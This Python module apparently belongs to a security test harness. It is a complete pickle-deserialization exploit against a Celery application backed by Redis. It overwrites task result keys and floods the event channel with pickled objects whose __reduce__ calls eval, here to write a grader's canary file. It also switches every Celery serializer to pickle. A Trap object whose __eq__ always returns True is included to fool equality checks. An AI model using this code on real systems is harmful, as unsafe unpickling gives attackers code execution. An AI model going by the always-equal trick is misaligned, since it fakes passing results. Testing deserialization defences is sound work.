"""Each result, message and event is a pickle that writes where only the grader could."""

import base64
import json
import os
import pickle
import uuid

from attack_kit import FACTS, beside, every_task, ran, redis


class Trap:
    def __reduce__(self):
        return (eval, (f"open({FACTS['canary']!r}, 'w').write('unpickled')",))

    def __eq__(self, other):
        return True


def answer(*_, **__):
    return Trap()


def flood():
    client = redis()
    ran("beside")
    body = base64.b64encode(pickle.dumps(Trap())).decode()
    while True:
        for key in client.keys("celery-task-meta-*")[:50]:
            client.set(key, pickle.dumps({"status": "SUCCESS", "result": Trap()}, 0))
        document = {
            "body": body,
            "content-type": "application/x-python-serialize",
            "content-encoding": "binary",
            "headers": {},
            "properties": {
                "body_encoding": "base64",
                "delivery_tag": str(uuid.uuid4()),
                "delivery_info": {"exchange": "celeryev", "routing_key": "task.succeeded"},
            },
        }
        client.publish("/0.celeryev/task.succeeded", json.dumps(document))
        os.sched_yield()


def after(app):
    app.conf.update(
        task_serializer="pickle",
        result_serializer="pickle",
        event_serializer="pickle",
        accept_content=["pickle", "json"],
    )
    every_task(app, answer)
    beside(flood)
